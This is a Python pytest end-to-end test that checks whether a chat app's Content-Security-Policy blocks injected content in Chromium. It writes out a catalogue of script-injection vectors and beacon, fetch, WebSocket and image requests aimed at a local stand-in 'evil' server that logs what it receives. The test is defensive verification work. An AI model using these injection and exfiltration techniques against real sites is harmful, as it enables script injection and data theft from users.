"""The policy in the pages' headers, as a real Chromium takes it: an injected script does not run and sends nothing."""

from __future__ import annotations

import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from playwright.sync_api import Browser, sync_playwright
from starlette.datastructures import MutableHeaders
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from server.http.spa import Spa
from tests.e2e.conftest import FLAGS, executable
from tests.support.eventually import eventually_sync

PATIENCE = 20.0

PAGE = """<!doctype html><title>Chat</title>
<script>window.inlineRan = true</script>
<img src="missing.png" onerror="window.handlerRan = true">
<a id="link" href="javascript:void(window.linkRan = true)">link</a>
<img src="{evil}/beacon.png?secret">
<link rel="stylesheet" href="{evil}/style.css">
<script src="{evil}/script.js"></script>
<iframe src="{evil}/frame"></iframe>
<object data="{evil}/object"></object>
<video src="{evil}/video"></video>
<script src="/ours.js"></script>
<base href="{evil}/base/"><img src="relative.png">
"""
OURS = """
try { eval('window.evalRan = true') } catch (error) {}
const style = document.createElement('style');
style.textContent = "body { background: url('EVIL/background.png') }";
document.body.append(style);
new Image().src = 'EVIL/image.png';
navigator.sendBeacon('EVIL/beacon');
try { new WebSocket('EVIL/socket'.replace('http', 'ws')) } catch (error) {}
try { new EventSource('EVIL/events') } catch (error) {}
document.getElementById('link').click();
fetch('EVIL/fetch', { mode: 'no-cors' }).catch(() => {}).finally(() => { window.tried = true });
"""


class Evil:
    """A site elsewhere that notes what it is asked for."""

    def __init__(self, url: str) -> None:
        self.url = url
        self.asked: list[str] = []


@contextmanager
def evil_site(framed: Callable[[], str]) -> Iterator[Evil]:
    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            evil.asked.append(self.path)
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            if self.path == "/frames":
                self.wfile.write(f'<iframe src="{framed()}"></iframe>'.encode())

        do_POST = do_GET

        def log_message(self, *args: Any) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    evil = Evil(f"http://127.0.0.1:{server.server_address[1]}")
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield evil
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@contextmanager
def served(app: ASGIApp) -> Iterator[str]:
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=0, log_config=None, lifespan="off"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    eventually_sync(lambda: server.started, timeout=PATIENCE, message="the server listens", interval=0.01)
    try:
        yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join()


def without_policy(app: ASGIApp) -> ASGIApp:
    """The same pages, as they would be without the header."""

    async def answer(scope: Scope, receive: Receive, send: Send) -> None:
        async def send_bare(message: Message) -> None:
            if message["type"] == "http.response.start":
                del MutableHeaders(scope=message)["content-security-policy"]
            await send(message)

        await app(scope, receive, send_bare)

    return answer


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=executable(), args=FLAGS)
        yield browser
        browser.close()


RAN = "[window.inlineRan, window.handlerRan, window.linkRan, window.evalRan].filter(Boolean).length"


@pytest.mark.parametrize("is_bare", [False, True])
def test_what_got_into_a_page_neither_runs_nor_reaches_another_site(
    chromium: Browser, tmp_path: Path, is_bare: bool
) -> None:
    urls: list[str] = []
    with evil_site(lambda: urls[0]) as evil:
        (tmp_path / "index.html").write_text(PAGE.replace("{evil}", evil.url))
        (tmp_path / "ours.js").write_text(OURS.replace("EVIL", evil.url))
        spa: ASGIApp = Spa(tmp_path)
        with served(without_policy(spa) if is_bare else spa) as url:
            urls.append(url)
            page = chromium.new_page()
            page.goto(url)
            page.wait_for_function("window.tried")
            page.wait_for_load_state("networkidle")
            ran = page.evaluate(RAN)
            page.goto(f"{evil.url}/frames")
            page.wait_for_load_state("networkidle")
            frame = page.frames[1]
            is_framed = frame.evaluate("document.title") == "Chat" if frame.url.startswith(url) else False
            page.close()
        told = [path for path in evil.asked if path not in ("/frames", "/favicon.ico")]
    if is_bare:  # what the policy is there for: all of this happens without it
        assert ran == 4
        assert len(told) >= 9
        assert is_framed
    else:
        assert ran == 0
        assert told == []
        assert not is_framed
